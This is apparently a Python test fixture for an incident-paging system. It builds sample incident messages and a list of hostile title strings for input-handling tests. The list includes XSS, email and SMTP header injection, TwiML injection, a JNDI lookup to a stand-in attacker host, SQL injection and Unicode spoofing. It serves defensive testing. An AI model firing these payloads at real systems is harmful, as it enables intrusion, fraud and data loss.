"""Why: messages as the engine hands them over, for all tests of this folder."""


def incident(number=42, title="Payment error rate 14 % above 5 %", service="checkout", urgency="high", **more):
    base = "https://muster.halden.example"
    return {"number": number, "id": "Q%013d" % number, "title": title, "service": service, "urgency": urgency, "since": "2026-02-10T03:12:00+01:00",
            "url": "%s/app/incidents/Q%013d" % (base, number), "code": 57,
            "links": {action: "%s/act/%s-%d" % (base, action, number) for action in ("acknowledge", "resolve", "escalate")}, **more}


def page(*incidents, **more):
    return {"kind": "page", "incidents": list(incidents or [incident()]), "why": "You are on call on Payments primary, level 1 of Payments.", "code": 57,
            "at": "2026-02-10T02:12:05Z", "thread": "Q0000000000042", "message_id": "Q0000000001001", **more}


# What a hostile or careless source may put into a title.
HOSTILE = [
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "a\r\nBcc: eve@evil.example", "a\nSubject: other\n\nbody", "a\r\n.\r\nMAIL FROM:<eve@evil.example>",
    "</Say><Dial>+19005550199</Dial><Say>", "]]><Hangup/>", "&lt;already&gt; &amp; escaped", "${jndi:ldap://evil.example/a}", "see http://evil.example/login now",
    "HTTPS://EVIL.EXAMPLE", "www.evil.example/pay", "(http://evil.example)", "http://evil.example,http://evil.example", "\u202egnp.exe", "a\u200bb\ufeffc", "tab\there", "=?UTF-8?Q?=0ABcc:_eve?=", "nul\u0001bell\u0007esc\u001b[31m",
    "Größe überschritten: Ñandú à Ærø", "Příliš žluťoučký kůň", "Сбой оплаты в магазине", "決済エラー率が高い", "fire \U0001f525\U0001f525 down \U0001f4a5", "\u201cquoted\u201d \u2013 \u2026 \u2264 5 \u2192 6",
    "{}[]^~|\\\u20ac", "%s%n%d", "'; DROP TABLE incidents; --", "x" * 1024, "\u044f" * 1024, "word " * 200, "\U0001f525" * 300, ".", "..", "From here on", "",
]
